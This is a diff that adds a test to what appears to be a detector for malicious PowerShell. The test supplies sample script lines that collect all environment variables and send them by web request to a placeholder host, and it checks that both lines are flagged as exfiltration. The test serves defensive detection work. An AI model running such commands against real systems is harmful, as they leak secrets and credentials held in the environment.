@@ -227,3 +227,12 @@ def test_an_assignment_after_a_line_the_grammar_misparses_still_binds_its_variab
         "Start-Process $runner -ArgumentList '-NoLogo','-EncodedCommand',$blob\n",
     )
     assert Kind.EXEC_FETCHED in {c.kind for c in found}
+
+
+def test_the_environment_piped_into_a_web_request_is_its_body(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        '$report = Get-ChildItem -Path Env: | ForEach-Object { "$($_.Name)=$($_.Value)" }\n'
+        "$report | Out-String | Invoke-WebRequest -Uri https://collect.example.invalid/r -Method Put\n",
+    )
+    assert [line for line, _ in chain(found, Kind.EGRESS)] == [1, 2]
